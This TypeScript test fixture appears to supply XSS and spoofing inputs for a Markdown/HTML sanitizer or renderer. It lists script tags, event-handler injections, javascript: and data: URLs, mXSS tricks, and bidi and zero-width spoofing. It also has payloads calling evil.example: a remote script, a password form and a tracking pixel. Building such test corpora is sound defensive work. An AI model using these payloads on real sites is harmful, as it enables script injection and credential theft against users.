interface HostileText {
  readonly name: string;
  readonly text: string;
  /** Texts that must be readable. */
  readonly says: readonly string[];
}

function asItIs(name: string, text: string): HostileText {
  return { name, text, says: [text] };
}

const addresses = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'java%0ascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,%3Csvg%20onload=alert(1)%3E',
  'file:///etc/passwd',
  'blob:https://example.org/x',
  '//evil.example/x',
];

/** Texts that try to become more than text. */
export const hostileTexts: readonly HostileText[] = [
  asItIs('a script', '<script>alert(1)</script>'),
  asItIs('a script in capitals', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'),
  asItIs('half a script', '<script'),
  asItIs('an event handler', '<img src=x onerror=alert(1)>'),
  asItIs('an event handler without blanks', '<svg/onload=alert(1)>'),
  asItIs('svg', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'),
  asItIs('mathml', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;">'.replace('&gt;', '>')),
  asItIs('a style', '<style>@import "https://evil.example/x.css"; body{display:none}</style>'),
  asItIs('a style attribute', '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">'),
  asItIs('a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  asItIs('a form', '<form action=https://evil.example><input name=password></form>'),
  asItIs('a base', '<base href=https://evil.example/>'),
  asItIs(
    'a refresh',
    '<meta http-equiv=refresh content="0;url=https://evil.example">'.replace(
      'https://evil.example">',
      '//evil.example">',
    ),
  ),
  asItIs('a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'),
  asItIs('cdata', '<![CDATA[<img src=x onerror=alert(1)>]]>'),
  asItIs('a template', '{{constructor.constructor("alert(1)")()}} <%= x %>'),
  { name: 'entities', text: '&lt;script&gt;alert(1)&lt;/script&gt;', says: ['<script>alert(1)</script>'] },
  { name: 'html after a list', text: '- a\n\n  <b onclick=alert(1)>b</b>', says: ['<b onclick=alert(1)>b</b>'] },
  {
    name: 'html in a table',
    text: '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    says: ['<img src=x onerror=alert(1)>'],
  },
  {
    name: 'html in code',
    text: '```html\n</code></pre><script>alert(1)</script>\n```',
    says: ['</code></pre><script>'],
  },
  { name: 'a fence with a strange name', text: '```"><img/src=x>\na\n```', says: ['"><img/src=x>'] },
  {
    name: 'a remote image',
    text: '![pixel](https://evil.example/p.png)',
    says: ['image: pixel, https://evil.example/p.png'],
  },
  {
    name: 'an image by reference',
    text: '![pixel][p]\n\n[p]: https://evil.example/p.png',
    says: ['https://evil.example/p.png'],
  },
  { name: 'an image in a link', text: '[![a](https://evil.example/p.png)](https://b.example)', says: ['(b.example)'] },
  { name: 'a title with quotes', text: '[a](https://b.example "x\\" onmouseover=alert(1)")', says: ['a (b.example)'] },
  { name: 'an address with quotes', text: '[a](https://b.example/"onmouseover=alert(1))', says: ['a (b.example)'] },
  {
    name: 'userinfo',
    text: 'https://bank.example@evil.example/login',
    says: ['https://bank.example@evil.example/login'],
  },
  {
    name: 'a link that lies',
    text: '[https://bank.example](https://evil.example)',
    says: ['https://bank.example (evil.example)'],
  },
  {
    name: 'a link that nearly lies',
    text: '[bank.example](https://bank.example.evil.example)',
    says: ['(bank.example.evil.example)'],
  },
  { name: 'an override', text: 'a \u202egnp.exe\u202c b', says: ['a ⟨U+202E⟩gnp.exe⟨U+202C⟩ b'] },
  { name: 'an override in code', text: '`if (a \u2066// \u2069)`', says: ['if (a ⟨U+2066⟩// ⟨U+2069⟩)'] },
  { name: 'an override in a fence', text: '```\na\u202eb\n```', says: ['a⟨U+202E⟩b'] },
  { name: 'an override in a link', text: '[a\u202eb](https://c.example)', says: ['a⟨U+202E⟩b (c.example)'] },
  { name: 'zero width', text: 'pay\u200bpal', says: ['pay⟨U+200B⟩pal'] },
  { name: 'controls', text: 'a\u001b]8;;https://evil.example\u0007b', says: ['a^[]8;;', '^Gb'] },
  ...addresses.flatMap((address): readonly HostileText[] => [
    { name: `a link to ${address}`, text: `[click](${address})`, says: ['click'] },
    { name: `an image of ${address}`, text: `![click](${address})`, says: ['click'] },
    { name: `an autolink to ${address}`, text: `<${address}>`, says: ['<', '>'] },
    { name: `a reference to ${address}`, text: `[click][x]\n\n[x]: ${address}`, says: ['click'] },
  ]),
];

/** Pieces to be put together in any order. */
export const hostileTexture: readonly string[] = [
  '<',
  '>',
  '"',
  "'",
  '`',
  '```',
  '\n',
  '\n\n',
  '- ',
  '> ',
  '| a |',
  '|---|',
  '[',
  '](',
  ')',
  '![',
  '*',
  '_',
  '~~',
  '&lt;',
  '&#60;',
  'javascript:',
  'data:',
  'https://evil.example',
  'onerror=',
  '<img src=x ',
  '<script>',
  '</script>',
  '\u202e',
  '\u200b',
  '\u0000',
  ' ',
  'x',
];
